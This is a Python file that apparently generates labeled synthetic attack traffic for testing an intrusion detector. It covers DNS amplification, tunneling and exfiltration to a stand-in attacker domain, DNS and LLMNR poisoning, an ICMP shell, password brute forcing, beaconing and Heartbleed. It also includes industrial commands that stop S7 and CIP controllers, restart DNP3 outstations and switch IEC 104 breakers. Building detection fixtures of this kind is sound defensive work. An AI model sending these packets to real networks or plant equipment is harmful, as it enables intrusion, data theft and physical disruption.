"""Attacks on services and industrial protocols."""

import random

from scapy.all import DNS, DNSQR, DNSRR, ICMP, IP, UDP, Ether, Raw

from wire import ALL, EVIL, FAR, GATEWAY, OTHER, VICTIM, Conn, case, everyday, get, ip, mac, tcp, tls, udp

RNG = random.Random(13)
RESOLVER = "203.0.113.53"


def rip4():
    return "%d.%d.%d.%d" % (RNG.choice([5, 23, 45, 62, 77, 91, 104, 142, 185, 193]), RNG.randint(1, 254), RNG.randint(1, 254), RNG.randint(1, 254))


def ask(t, client, port, server, name, qtype="A", ident=1):
    return t, ip(client, server) / UDP(sport=port, dport=53) / DNS(id=ident, rd=1, qd=DNSQR(qname=name, qtype=qtype))


def tell(t, client, port, server, name, answer, qtype="A", ident=1, ttl=None, aa=0):
    return t, (ip(server, client, ttl) / UDP(sport=53, dport=port)
               / DNS(id=ident, qr=1, aa=aa, rd=1, ra=1, qd=DNSQR(qname=name, qtype=qtype), an=DNSRR(rrname=name, type=qtype, rdata=answer, ttl=300)))


def large(t, client, port, server, size, ident=1):
    body = ident.to_bytes(2, "big") + b"\x81\x80\x00\x01\x00\x20\x00\x00\x00\x00\x04isc\x03org\x00\x00\xff\x00\x01" + random.randbytes(size)
    return udp(t, server, 53, client, port, body)


@case("DNS amplification at the victim", ["amplification-victim"], victim=VICTIM)
def dns_victim():
    for n in range(1500):
        yield large(n * 0.002, VICTIM, 80, f"{n % 90 + 20}.7.7.53", 1300)


@case("DNS amplification at the reflector", ["amplification-reflector"], victim="192.0.2.80")
def dns_reflector():
    for n in range(400):
        yield n * 0.02, ip("192.0.2.80", VICTIM) / UDP(sport=4444, dport=53) / DNS(id=77, rd=1, qd=DNSQR(qname="isc.org", qtype="ALL"))
        yield large(n * 0.02 + 0.001, "192.0.2.80", 4444, VICTIM, 1300, 77)


@case("DNS amplification in the middle", ["amplification-victim", "amplification-reflector"], victim="192.0.2.80")
def dns_middle():
    for n in range(600):
        reflector = f"203.0.113.{n % 5 + 1}"
        yield n * 0.01, ip("192.0.2.80", reflector) / UDP(sport=4444, dport=53) / DNS(id=77, rd=1, qd=DNSQR(qname="isc.org", qtype="ALL"))
        yield large(n * 0.01 + 0.02, "192.0.2.80", 4444, reflector, 1300, 77)


@case("NTP monlist at the victim", ["amplification-victim"], victim=VICTIM)
def ntp_victim():
    for n in range(2000):
        yield udp(n * 0.001, f"203.0.113.{n % 30 + 1}", 123, VICTIM, 80, b"\xd7\x00\x03\x2a\x00\x06\x00\x48" + bytes(432))


@case("NTP monlist at the reflector", ["amplification-reflector"], victim="192.0.2.80")
def ntp_reflector():
    for n in range(60):
        yield udp(n * 0.05, "192.0.2.80", 80, VICTIM, 123, b"\x17\x00\x03\x2a" + bytes(4))
        for m in range(20):
            yield udp(n * 0.05 + m * 0.0005, VICTIM, 123, "192.0.2.80", 80, b"\xd7\x00\x03\x2a\x00\x06\x00\x48" + bytes(432))


@case("memcached at the victim", ["amplification-victim"], victim=VICTIM)
def memcached():
    for n in range(1000):
        yield udp(n * 0.001, f"203.0.113.{n % 10 + 1}", 11211, VICTIM, 443, bytes(8) + b"VALUE a 0 1000000\r\n" + bytes(1373))


@case("SSDP at the victim", ["amplification-victim"], victim=VICTIM)
def ssdp_victim():
    for n in range(1500):
        yield udp(n * 0.002, rip4(), 1900, VICTIM, 80, b"HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=120\r\nST: upnp:rootdevice\r\nUSN: uuid:x\r\nSERVER: a UPnP/1.0\r\n" + bytes(200))


@case("random names against a resolver (water torture)", ["dns-flood"], victim=VICTIM)
def water_torture():
    for n in range(1200):
        client, name = f"203.0.113.{n % 100 + 1}", "%012x.example.net" % RNG.getrandbits(48)
        yield ask(n * 0.005, client, 30000 + n, VICTIM, name, ident=n)
        yield n * 0.005 + 0.01, ip(VICTIM, client) / UDP(sport=53, dport=30000 + n) / DNS(id=n, qr=1, rcode=3, qd=DNSQR(qname=name))


B32 = "abcdefghijklmnopqrstuvwxyz012345"


@case("DNS tunnel (iodine)", ["dns-tunnel"], attacker=VICTIM)
def iodine():
    for n in range(150):
        label = lambda k: "".join(RNG.choice(B32) for _ in range(k))
        name = f"0{label(56)}.{label(57)}.{label(40)}.t.example.com"
        yield ask(n * 0.1, VICTIM, 50000, RESOLVER, name, "NULL", n)
        yield tell(n * 0.1 + 0.03, VICTIM, 50000, RESOLVER, name, RNG.randbytes(500), "NULL", n)


@case("DNS tunnel (dnscat2)", ["dns-tunnel"], attacker=VICTIM)
def dnscat():
    for n in range(120):
        name = f"{RNG.randbytes(9).hex()}.{RNG.randbytes(28).hex()}.c2.example.org"
        qtype = ("TXT", "CNAME", "MX")[n % 2 * 0]
        yield ask(n * 1.0, VICTIM, 40000 + n, RESOLVER, name, qtype, n)
        yield tell(n * 1.0 + 0.03, VICTIM, 40000 + n, RESOLVER, name, RNG.randbytes(9).hex(), qtype, n)


@case("a file out by A queries (exfiltration)", ["dns-tunnel"], attacker=VICTIM)
def dns_exfil():
    for n in range(100):
        name = f"{n}.{RNG.randbytes(30).hex()}.x.attacker.example"
        yield ask(n * 0.3, VICTIM, 40000 + n, RESOLVER, name, "A", n)
        yield tell(n * 0.3 + 0.03, VICTIM, 40000 + n, RESOLVER, name, "192.0.2.1", "A", n)


@case("answers guessed by the hundred (Kaminsky)", ["dns-poisoning"], victim=VICTIM)
def kaminsky():
    for n in range(20):
        name, t = f"{RNG.randbytes(4).hex()}.example.com", n * 0.5
        yield ask(t, VICTIM, 33333, "198.51.100.53", name, "A", RNG.getrandbits(16))
        for m in range(60):
            yield tell(t + 0.001 + m * 0.0002, VICTIM, 33333, "198.51.100.53", name, "192.0.2.66", "A", RNG.getrandbits(16), aa=1)


@case("a second answer to a question (dnsspoof)", ["dns-poisoning"], victim=VICTIM)
def dnsspoof():
    for n in range(4):
        name = f"www{n}.example.com"
        yield ask(n * 5, VICTIM, 40000 + n, RESOLVER, name, "A", 100 + n)
        yield tell(n * 5 + 0.001, VICTIM, 40000 + n, RESOLVER, name, EVIL, "A", 100 + n, ttl=64)
        yield tell(n * 5 + 0.03, VICTIM, 40000 + n, RESOLVER, name, f"203.0.113.{n + 1}", "A", 100 + n)


@case("answers to names of others (Responder)", ["name-poisoning"], attacker=EVIL)
def responder():
    from scapy.all import LLMNRQuery, LLMNRResponse
    for n, name in enumerate(["wpad", "fileserv", "prnt01", "intranett", "sqlprod2", "proxysrv"]):
        client = f"10.9.0.{20 + n % 3}"
        yield n * 7, ip(client, "224.0.0.252", 1) / UDP(sport=55000 + n, dport=5355) / LLMNRQuery(id=n, qd=DNSQR(qname=name))
        yield n * 7 + 0.002, (ip(EVIL, client) / UDP(sport=5355, dport=55000 + n)
                              / LLMNRResponse(id=n, qd=DNSQR(qname=name), an=DNSRR(rrname=name, rdata=EVIL, ttl=30)))


@case("ICMP tunnel (ptunnel)", ["icmp-tunnel"])
def icmp_tunnel():
    for n in range(200):
        yield n * 0.05, ip(VICTIM, FAR) / ICMP(id=9, seq=n) / Raw(b"\xd5\x20\x08\x80" + RNG.randbytes(RNG.choice([24, 24, 300, 1000])))
        yield n * 0.05 + 0.03, ip(FAR, VICTIM) / ICMP(type=0, id=9, seq=n) / Raw(b"\xd5\x20\x08\x80" + RNG.randbytes(RNG.choice([24, 500, 1024])))


@case("shell over ICMP (icmpsh)", ["icmp-tunnel"])
def icmpsh():
    for n in range(60):
        yield n * 0.2, ip(VICTIM, FAR) / ICMP(id=1, seq=n) / Raw(b"" if n % 5 else b"C:\\Users\\a>dir\r\n" + RNG.randbytes(20))
        yield n * 0.2 + 0.02, ip(FAR, VICTIM) / ICMP(type=0, id=1, seq=n) / Raw(b"" if n % 6 else b"whoami\n")


def brute(t, client, cport, server, port, lines, rtt=0.01, closes=1):
    conn = Conn(t, client, cport, server, port, rtt=rtt)
    for side, line in lines:
        (conn.ask if side == 0 else conn.tell)(line)
    return conn.close(closes)


def ssh(t, client, cport, server, ok=False, auth_size=1200, port=22):
    conn = Conn(t, client, cport, server, port, rtt=0.01)
    conn.tell(b"SSH-2.0-OpenSSH_9.2\r\n").ask(b"SSH-2.0-libssh_0.9.6\r\n")
    conn.ask(RNG.randbytes(900)).tell(RNG.randbytes(1000)).ask(RNG.randbytes(48)).tell(RNG.randbytes(500))
    conn.ask(RNG.randbytes(64)).tell(RNG.randbytes(52)).ask(RNG.randbytes(84)).tell(RNG.randbytes(84))
    conn.ask(RNG.randbytes(148), 0.2).tell(RNG.randbytes(84 if not ok else 36), 1.5)
    if ok:
        for _ in range(5):
            conn.ask(RNG.randbytes(100)).tell(RNG.randbytes(auth_size))
    return conn.close()


@case("SSH passwords guessed (hydra)", ["brute-force"], attacker=FAR, victim=VICTIM)
def ssh_brute():
    for n in range(120):
        yield from ssh(n * 0.6, FAR, 40000 + n, VICTIM)


@case("FTP passwords guessed (Patator)", ["brute-force"], attacker=FAR, victim=VICTIM)
def ftp_brute():
    for n in range(60):
        lines = [(1, b"220 ready\r\n")]
        for m in range(3):
            lines += [(0, b"USER admin\r\n"), (1, b"331 Password required\r\n"), (0, b"PASS pw%d%d\r\n" % (n, m)), (1, b"530 Login incorrect.\r\n")]
        yield from brute(n * 1.0, FAR, 40000 + n, VICTIM, 21, lines)


@case("telnet passwords guessed", ["brute-force"], attacker=FAR, victim=VICTIM)
def telnet_brute():
    for n in range(40):
        yield from brute(n * 2.0, FAR, 40000 + n, VICTIM, 23, [(1, b"\xff\xfd\x18login: "), (0, b"root\r\n"), (1, b"Password: "), (0, b"xc3511\r\n"), (1, b"\r\nLogin incorrect\r\nlogin: ")])


def smb2(command, status, response):
    head = b"\xfeSMB" + (64).to_bytes(2, "little") + bytes(2) + status.to_bytes(4, "little") + command.to_bytes(2, "little") + b"\x01\x00" + (1 if response else 0).to_bytes(4, "little") + bytes(44)
    body = head + bytes(60)
    return len(body).to_bytes(4, "big") + body


@case("SMB passwords guessed", ["brute-force"], attacker=EVIL, victim=VICTIM)
def smb_brute():
    for n in range(60):
        lines = [(0, smb2(0, 0, False)), (1, smb2(0, 0, True)), (0, smb2(1, 0, False)), (1, smb2(1, 0xC0000016, True)), (0, smb2(1, 0, False)), (1, smb2(1, 0xC000006D, True))]
        yield from brute(n * 0.5, EVIL, 40000 + n, VICTIM, 445, lines)


@case("HTTP basic passwords guessed", ["brute-force"], attacker=FAR, victim=VICTIM)
def http_brute():
    for n in range(80):
        yield from brute(n * 0.3, FAR, 40000 + n, VICTIM, 80, [(0, b"GET /admin HTTP/1.1\r\nHost: a\r\nAuthorization: Basic YWRtaW46%04d\r\n\r\n" % n), (1, b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic\r\nContent-Length: 0\r\n\r\n")])


@case("POP3 passwords guessed", ["brute-force"], attacker=FAR, victim=VICTIM)
def pop3_brute():
    for n in range(50):
        yield from brute(n * 0.7, FAR, 40000 + n, VICTIM, 110, [(1, b"+OK ready\r\n"), (0, b"USER bob\r\n"), (1, b"+OK\r\n"), (0, b"PASS a%d\r\n" % n), (1, b"-ERR [AUTH] Authentication failed.\r\n")])


@case("RDP passwords guessed", ["brute-force"], attacker=FAR, victim=VICTIM)
def rdp_brute():
    for n in range(100):
        conn = Conn(n * 0.7, FAR, 40000 + n, VICTIM, 3389, rtt=0.02)
        conn.ask(bytes.fromhex("030000130ee000000000000100080003000000")).tell(bytes.fromhex("030000130ed000001234000209080002000000"))
        conn.ask(b"\x16\x03\x01" + RNG.randbytes(180)).tell(b"\x16\x03\x03" + RNG.randbytes(900)).ask(b"\x16\x03\x03" + RNG.randbytes(300))
        conn.tell(b"\x14\x03\x03" + RNG.randbytes(60)).ask(b"\x17\x03\x03" + RNG.randbytes(120)).tell(b"\x17\x03\x03" + RNG.randbytes(60))
        yield from conn.reset(1)


@case("one password at many hosts (spraying over SSH)", ["brute-force"], attacker=EVIL)
def spray():
    for n in range(45):
        yield from ssh(n * 0.5, EVIL, 40000 + n, f"10.9.0.{100 + n}")


@case("beacon every minute, 10 % jitter", ["beaconing"], attacker=VICTIM)
def beacon():
    yield from everyday(1800, hosts=(OTHER,))
    t = 5.0
    for n in range(30):
        yield from tls(t, VICTIM, 42000 + n, "198.51.100.200", up=180, down=120, rtt=0.04)
        t += RNG.uniform(54, 66)


@case("beacon every five seconds over HTTP", ["beaconing"], attacker=VICTIM)
def beacon_http():
    yield from everyday(300, hosts=(OTHER,))
    for n in range(60):
        yield from get(n * 5 + RNG.uniform(0, 0.5), VICTIM, 42000 + n, "198.51.100.201", "/submit.php?id=1234", 64)


@case("Heartbleed", ["heartbleed"], attacker=FAR, victim=VICTIM)
def heartbleed():
    conn = Conn(1, FAR, 40000, VICTIM, 443)
    conn.ask(b"\x16\x03\x02\x00\xdc" + RNG.randbytes(220)).tell(b"\x16\x03\x02\x05\x00" + RNG.randbytes(1280))
    for _ in range(3):
        conn.ask(b"\x18\x03\x02\x00\x03\x01\x40\x00").tell(b"\x18\x03\x02\x40\x00" + RNG.randbytes(16384))
    yield from conn.close()


# Industrial.

PLC, SCADA = "10.9.0.50", "10.9.0.20"


def modbus(pdu, unit=1, ident=1):
    return ident.to_bytes(2, "big") + b"\x00\x00" + (len(pdu) + 1).to_bytes(2, "big") + bytes([unit]) + pdu


def poll_modbus(n=30, client=SCADA):
    conn = Conn(0, client, 50000, PLC, 502)
    for i in range(n):
        conn.ask(modbus(b"\x03\x00\x00\x00\x0a", ident=i), 0.5).tell(modbus(b"\x03\x14" + bytes(20), ident=i))
    return conn.out


@case("Modbus function codes tried out", ["ics-scan", "ics-illegal-function"], also=["ics-control-command", "ics-write", "ics-refused"], attacker=EVIL, victim=PLC)
def modbus_functions():
    yield from poll_modbus()
    conn = Conn(3, EVIL, 50001, PLC, 502)
    for code in range(1, 128):
        conn.ask(modbus(bytes([code, 0, 0, 0, 1])), 0.05).tell(modbus(bytes([code | 0x80, 1])) if code not in (3, 4) else modbus(bytes([code, 2, 0, 0])))
    yield from conn.close()


@case("Modbus units tried out", ["ics-scan"], also=["ics-refused"], attacker=EVIL, victim=PLC)
def modbus_units():
    yield from poll_modbus()
    conn = Conn(3, EVIL, 50001, PLC, 502)
    for unit in range(1, 248):
        conn.ask(modbus(b"\x2b\x0e\x01\x00", unit), 0.02)
        if unit == 1:
            conn.tell(modbus(b"\x2b\x0e\x01\x01\x00\x00\x00", unit))
        else:
            conn.tell(modbus(b"\xab\x0b", unit))
    yield from conn.close()


@case("Modbus coils written by a stranger", ["ics-write"], attacker=EVIL, victim=PLC)
def modbus_write():
    yield from poll_modbus()
    conn = Conn(3, EVIL, 50001, PLC, 502)
    for n in range(20):
        conn.ask(modbus(b"\x05" + n.to_bytes(2, "big") + b"\xff\x00"), 0.1).tell(modbus(b"\x05" + n.to_bytes(2, "big") + b"\xff\x00"))
    yield from conn.close()


@case("Modbus with lengths that are none", ["ics-malformed"], attacker=EVIL, victim=PLC)
def modbus_malformed():
    yield from poll_modbus()
    conn = Conn(3, EVIL, 50001, PLC, 502)
    conn.ask(modbus(b"\x03\x00\x00\x00\x0a")).tell(modbus(b"\x03\x14" + bytes(20)))
    for _ in range(5):
        conn.ask(b"\x00\x01\x00\x07\xff\xff\x01\x03\x00\x00\x00\x0a", 0.5)
    yield from conn.close()


@case("Modbus looked for on every address", ["port-scan"], attacker=EVIL)
def modbus_hosts():
    for n in range(1, 120):
        host = f"10.9.0.{n}"
        if host == EVIL:
            continue
        if host == PLC:
            conn = Conn(n * 0.05, EVIL, 41000 + n, PLC, 502)
            conn.ask(modbus(b"\x2b\x0e\x01\x00")).tell(modbus(b"\x2b\x0e\x01\x01\x00\x00\x00"))
            yield from conn.close()
        else:
            yield tcp(n * 0.05, EVIL, 41000 + n, host, 502, "S", 1)
            yield tcp(n * 0.05 + 0.001, host, 502, EVIL, 41000 + n, "RA", 0, 2)


def crc(data):
    value = 0
    for byte in data:
        value ^= byte
        for _ in range(8):
            value = (value >> 1) ^ 0xA6BC if value & 1 else value >> 1
    return (~value & 0xFFFF).to_bytes(2, "little")


def dnp3(user, to_outstation=True):
    head = b"\x05\x64" + bytes([5 + len(user), 0xC4 if to_outstation else 0x44]) + (b"\x0a\x00\x01\x00" if to_outstation else b"\x01\x00\x0a\x00")
    out = head + crc(head)
    for n in range(0, len(user), 16):
        out += user[n:n + 16] + crc(user[n:n + 16])
    return out


@case("DNP3 cold restart and silence", ["ics-control-command"], attacker=EVIL, victim=PLC)
def dnp3_restart():
    conn = Conn(1, EVIL, 50001, PLC, 20000)
    conn.ask(dnp3(b"\xc0\xc0\x01\x3c\x02\x06")).tell(dnp3(b"\xc0\xc0\x81\x00\x00", False))
    conn.ask(dnp3(b"\xc1\xc1\x15\x3c\x02\x06")).tell(dnp3(b"\xc1\xc1\x81\x00\x00", False))
    conn.ask(dnp3(b"\xc2\xc2\x0d")).tell(dnp3(b"\xc2\xc2\x81\x00\x00\x34\x02\x07\x01\x10\x27", False))
    yield from conn.close()


@case("DNP3 direct operate by a stranger", ["ics-write", "ics-control-command"], attacker=EVIL, victim=PLC)
def dnp3_operate():
    conn = Conn(1, EVIL, 50001, PLC, 20000)
    for n in range(5):
        conn.ask(dnp3(b"\xc0\xc0\x05\x0c\x01\x28\x01\x00" + bytes([n, 0, 0x41, 1, 0x64, 0, 0, 0, 0x64, 0, 0, 0, 0])), 0.2).tell(dnp3(b"\xc0\xc0\x81\x00\x00", False))
    yield from conn.close()


def s7(parameters, rosctr=1, data=b""):
    body = b"\x02\xf0\x80\x32" + bytes([rosctr]) + b"\x00\x00\x00\x01" + len(parameters).to_bytes(2, "big") + len(data).to_bytes(2, "big") + (b"\x00\x00" if rosctr == 3 else b"") + parameters + data
    return b"\x03\x00" + (len(body) + 4).to_bytes(2, "big") + body


COTP = bytes.fromhex("0300001611e00000000100c0010ac1020100c2020102")
COTP_OK = bytes.fromhex("0300001611d00001000100c0010ac1020100c2020102")


@case("S7 stop and start of the CPU", ["ics-control-command"], attacker=EVIL, victim=PLC)
def s7_stop():
    conn = Conn(1, EVIL, 50001, PLC, 102)
    conn.ask(COTP).tell(COTP_OK).ask(s7(b"\xf0\x00\x00\x01\x00\x01\x01\xe0")).tell(s7(b"\xf0\x00\x00\x01\x00\x01\x00\xf0", 3))
    conn.ask(s7(b"\x29\x00\x00\x00\x00\x00\x09P_PROGRAM")).tell(s7(b"\x29", 3))
    conn.ask(s7(b"\x28\x00\x00\x00\x00\x00\x00\xfd\x00\x00\x09P_PROGRAM"), 5).tell(s7(b"\x28", 3))
    yield from conn.close()


def enip(command, data=b"", session=1):
    return command.to_bytes(2, "little") + len(data).to_bytes(2, "little") + session.to_bytes(4, "little") + bytes(16) + data


def cip(request):
    return enip(0x6F, bytes(6) + b"\x02\x00\x00\x00\x00\x00\xb2\x00" + len(request).to_bytes(2, "little") + request)


@case("CIP stop and reset", ["ics-control-command"], attacker=EVIL, victim=PLC)
def cip_stop():
    conn = Conn(1, EVIL, 50001, PLC, 44818)
    conn.ask(enip(0x65, b"\x01\x00\x00\x00", 0)).tell(enip(0x65, b"\x01\x00\x00\x00"))
    conn.ask(cip(b"\x07\x02\x20\x64\x24\x01")).tell(cip(b"\x87\x00\x00\x00"))
    conn.ask(cip(b"\x05\x02\x20\x01\x24\x01\x00"), 1).tell(cip(b"\x85\x00\x00\x00"))
    yield from conn.close()


@case("EtherNet/IP identities asked on every address", ["port-scan", "ics-scan"], attacker=EVIL)
def enip_hosts():
    for n in range(1, 200):
        if f"10.9.0.{n}" == EVIL:
            continue
        yield udp(n * 0.02, EVIL, 40000, f"10.9.0.{n}", 44818, enip(0x63, b"", 0))
        if n == 50:
            yield udp(n * 0.02 + 0.001, PLC, 44818, EVIL, 40000, enip(0x63, bytes(60), 0))


def bvlc(npdu, kind=0x0A):
    return b"\x81" + bytes([kind]) + (len(npdu) + 4).to_bytes(2, "big") + npdu


@case("BACnet reinitialize and silence", ["ics-control-command"], attacker=EVIL, victim=PLC)
def bacnet_reinit():
    yield udp(1, EVIL, 47808, PLC, 47808, bvlc(b"\x01\x04\x00\x05\x01\x14\x09\x00"))
    yield udp(1.01, PLC, 47808, EVIL, 47808, bvlc(b"\x01\x00\x20\x01\x14"))
    yield udp(2, EVIL, 47808, PLC, 47808, bvlc(b"\x01\x04\x00\x05\x02\x11\x09\x05\x19\x01"))
    yield udp(2.01, PLC, 47808, EVIL, 47808, bvlc(b"\x01\x00\x20\x02\x11"))


@case("BACnet outputs written", ["ics-write"], attacker=EVIL, victim=PLC)
def bacnet_write():
    for n in range(10):
        yield udp(n, EVIL, 47808, PLC, 47808, bvlc(b"\x01\x04\x00\x05" + bytes([n]) + b"\x0f\x0c\x00\x40\x00" + bytes([n]) + b"\x19\x55\x3e\x44\x42\xc8\x00\x00\x3f\x49\x08"))
        yield udp(n + 0.01, PLC, 47808, EVIL, 47808, bvlc(b"\x01\x00\x20" + bytes([n]) + b"\x0f"))


def iec104(kind, cause=6, ioa=1, value=b"\x01", common=1, seq=0):
    asdu = bytes([kind, 1, cause, 0]) + common.to_bytes(2, "little") + ioa.to_bytes(3, "little") + value
    return b"\x68" + bytes([4 + len(asdu)]) + (seq << 1).to_bytes(2, "little") + b"\x00\x00" + asdu


@case("IEC 104 breakers switched (Industroyer)", ["ics-write", "ics-control-command"], attacker=EVIL, victim=PLC)
def industroyer():
    conn = Conn(1, EVIL, 50001, PLC, 2404)
    conn.ask(b"\x68\x04\x07\x00\x00\x00").tell(b"\x68\x04\x0b\x00\x00\x00")
    for n in range(40):
        conn.ask(iec104(45, 6, 1000 + n, bytes([n % 2]), seq=n), 0.1).tell(iec104(45, 7, 1000 + n, bytes([n % 2]), seq=n))
    yield from conn.close()


@case("IEC 104 process reset and STOPDT", ["ics-control-command"], attacker=EVIL, victim=PLC)
def iec_reset():
    conn = Conn(1, EVIL, 50001, PLC, 2404)
    conn.ask(b"\x68\x04\x07\x00\x00\x00").tell(b"\x68\x04\x0b\x00\x00\x00")
    conn.ask(iec104(105, 6, 0, b"\x01")).tell(iec104(105, 7, 0, b"\x01")).ask(b"\x68\x04\x13\x00\x00\x00", 1).tell(b"\x68\x04\x23\x00\x00\x00")
    yield from conn.close()


@case("IEC 104 stations tried out", ["ics-scan"], also=["ics-refused"], attacker=EVIL, victim=PLC)
def iec_scan():
    conn = Conn(1, EVIL, 50001, PLC, 2404)
    conn.ask(b"\x68\x04\x07\x00\x00\x00").tell(b"\x68\x04\x0b\x00\x00\x00")
    for n in range(1, 60):
        conn.ask(iec104(100, 6, 0, b"\x14", common=n, seq=n), 0.2)
        conn.tell(iec104(100, 7 if n == 3 else 46 | 0x40, 0, b"\x14", common=n, seq=n))
    yield from conn.close()
